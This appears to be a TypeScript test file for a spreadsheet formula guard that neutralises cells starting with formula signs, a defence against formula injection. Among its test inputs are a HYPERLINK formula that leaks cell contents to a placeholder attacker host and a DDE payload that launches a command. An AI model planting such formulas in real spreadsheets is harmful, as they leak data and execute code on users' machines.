import { expect } from 'chai';
import fc from 'fast-check';
import type { Cell } from '../../../../src/domain/spreadsheet/cell-values.ts';
import {
  guardDigits,
  guardFormulas,
  needsGuard,
  plainScalars,
} from '../../../../src/domain/spreadsheet/formula-guard.ts';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '\u2212', '⩵'];
const unseen = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u2060',
  '\0',
  '\ufe0f',
  ' \u200b ',
];

const guarded = (cell: Cell): Cell | undefined => guardFormulas([[cell]])[0]?.[0];

describe('guardFormulas', () => {
  it('keeps text that begins with a formula sign, in any form and after anything unseen', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...unseen),
        fc.constantFrom(...signs),
        fc.string(),
        (before, sign, rest) => {
          const text = `${before}${sign}${rest}`;
          expect(guarded(text)).to.equal(`'${text}`);
        },
      ),
      { numRuns: 500 },
    );
  });

  const kept = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '+998901234567',
    '-5',
    '@SUM(A1)',
    '\tplain',
    '\rplain',
    '\nplain',
    '=\u0338 1',
    '007',
    '00',
    '0123 456',
    ' 0123',
    '40817810099910004312',
    '4081 7810 0999 1000 4312',
    '007.5',
    '00.5',
    '007,50',
    '0 012,5',
    '05.50',
    '00E5',
    '00E+15',
    '00E-15',
    '00.12',
    '05.00',
    '05.13',
    '40817810099910004312.00',
    '40,817,810,099,910,004,312',
    '40.817.810.099.910.004.312,00',
    "40'817'810'099'910'004'312",
    '0,817,810',
    '001,234,567.5',
  ];
  for (const text of kept) {
    it(`keeps ${JSON.stringify(text)} as text`, () => expect(guarded(text)).to.equal(`'${text}`));
  }

  const typed = [
    '',
    ' ',
    '0',
    '0.5',
    '0,05',
    '0.30000000000000004',
    '1E5',
    '0E5',
    '1E+15',
    '12',
    '1 234 567',
    '123456789012345',
    '15%',
    'TRUE',
    '1,234,567',
    '1,234,567.89',
    '123,456,789,012,345',
    '1.234.567,89',
    '192.168.001.001',
    '01.02.2026',
    '31.12.2026',
    '1,2,3',
    '01.02',
    '31.12',
    '05.5',
    '05.12',
    '08:30',
    '2026-01-31',
    'кв. 5',
    'a=b',
    'mail@example.com',
    "'=1+1",
    "'007",
    ' plain',
  ];
  for (const text of typed) {
    it(`leaves ${JSON.stringify(text)} to be read as typed`, () => expect(guarded(text)).to.equal(text));
  }

  const untouched: readonly Cell[] = [
    -5,
    0,
    1e300,
    true,
    false,
    null,
    { formula: '=A1' },
    { date: '2026-01-31' },
  ];
  for (const cell of untouched) {
    it(`never touches ${JSON.stringify(cell)}`, () => expect(guarded(cell)).to.deep.equal(cell));
  }

  it('puts an apostrophe first or changes nothing, and once is enough', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }))), (rows) => {
        const once = guardFormulas(rows);
        expect(once).to.deep.equal(
          rows.map((row) => row.map((text) => (needsGuard(text) ? `'${text}` : text))),
        );
        expect(guardFormulas(once)).to.deep.equal(once);
      }),
    );
  });
});

describe('guardDigits', () => {
  it('keeps numbers that would lose digits, and lets formulas be formulas', () => {
    const rows = [['007', ' 00.5', '40817810099910004312', '=1+1', '+1', '-A1', '5', 7, null]];
    expect(guardDigits(rows)).to.deep.equal([
      ["'007", "' 00.5", "'40817810099910004312", '=1+1', '+1', '-A1', '5', 7, null],
    ]);
  });
});

describe('plainScalars', () => {
  it('writes no date that was never checked', () => {
    expect(() => plainScalars([[{ date: '2026-02-30' }]])).to.throw('checked before');
  });

  it('sends formulas as their text, dates as serial numbers and everything else unchanged', () => {
    expect(
      plainScalars([
        [{ formula: '=A1' }, { date: '2020-01-01' }, { date: '2020-01-01T12:00' }],
        ['=A1', 1.5, null, true, ''],
      ]),
    ).to.deep.equal([
      ['=A1', 43_831, 43_831.5],
      ['=A1', 1.5, null, true, ''],
    ]);
  });
});
